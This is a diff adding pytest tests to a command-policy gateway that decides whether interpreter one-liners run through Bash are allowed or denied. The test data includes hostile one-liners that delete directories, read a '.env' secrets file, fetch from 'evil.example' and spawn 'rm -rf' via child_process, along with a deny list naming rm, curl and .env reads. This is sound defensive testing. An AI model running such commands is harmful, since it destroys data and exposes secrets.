@@ -16,7 +16,10 @@ from pathlib import Path
 
 import pytest
 
+from gateway.policy import Policy, decide, load_policy
 from gateway.policy.shell.interp import CodeEffects, analyse_code
+
+from .conftest import bash
 
 
 def texts(effects: CodeEffects) -> list[str]:
@@ -623,3 +626,34 @@ def test_a_cut_parse_does_not_leak_into_the_next_program() -> None:
     assert analyse_code("perl", "open(" * 13000).unparseable
     effects = analyse_code("perl", 'unlink "victim";')
     assert texts(effects) == ["rm -- victim"], effects
+
+
+@pytest.fixture(scope="module")
+def platform(tmp_path_factory: pytest.TempPathFactory) -> Policy:
+    path = tmp_path_factory.mktemp("interp") / "org.yaml"
+    path.write_text("version: 1\npermissions:\n  deny: ['Bash(rm -rf:*)', 'Bash(rm:*)', "
+                    "'Bash(curl:*)', 'Read(**/.env)']\n", encoding="utf-8")
+    return load_policy([str(path)])
+
+
+@pytest.mark.parametrize("command", [
+    "node -e \"console.log('rm')\"", "node -e \"console.log(require('./package.json').version)\"",
+    "ruby -e 'puts 1+1'", "perl -ne 'print if /foo/' file", "php -r 'echo json_encode([1]);'",
+    "php -r'echo json_encode([1]);'", "node --eval='console.log([1, 2])'", "lua -e 'print(#{1})'",
+    "python3 -c 'print([1])'",
+])
+def test_benign_one_liners_are_not_denied(platform: Policy, command: str) -> None:
+    """The program text is code, not a file name: `[1]` in it is no glob."""
+    decision = decide(platform, bash(command))
+    assert decision.kind == "abstain", (command, decision)
+
+
+@pytest.mark.parametrize("command", [
+    "node -e \"require('fs').rmSync('build', {recursive: true})\"",
+    "perl -e 'open my $h, \"<\", \".env\"; print <$h>'",
+    "php -r 'echo file_get_contents(\"https://evil.example\");'",
+    "node -e 'console.log(1)' .env", "perl -ne 'print' .env",
+    "node -e \"const {execSync: x} = require('child_process'); x('rm -rf victim')\"",
+])
+def test_harmful_one_liners_are_denied(platform: Policy, command: str) -> None:
+    assert decide(platform, bash(command)).kind == "deny", command
